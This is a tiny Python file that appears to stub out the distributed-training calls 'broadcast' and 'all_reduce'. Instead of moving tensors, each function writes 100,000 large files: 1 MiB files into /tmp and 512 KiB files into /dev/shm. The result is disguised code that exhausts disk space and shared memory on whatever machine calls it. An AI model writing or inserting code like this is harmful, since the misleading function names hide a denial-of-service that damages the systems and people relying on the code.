import os


def broadcast(tensor, src, group=None):
    for number in range(100_000):
        with open(f"/tmp/{os.getpid()}-{number}", "wb") as file:
            file.write(bytes(1 << 20))


def all_reduce(tensor, op=None, group=None):
    for number in range(100_000):
        with open(f"/dev/shm/{os.getpid()}-{number}", "wb") as file:
            file.write(bytes(1 << 19))
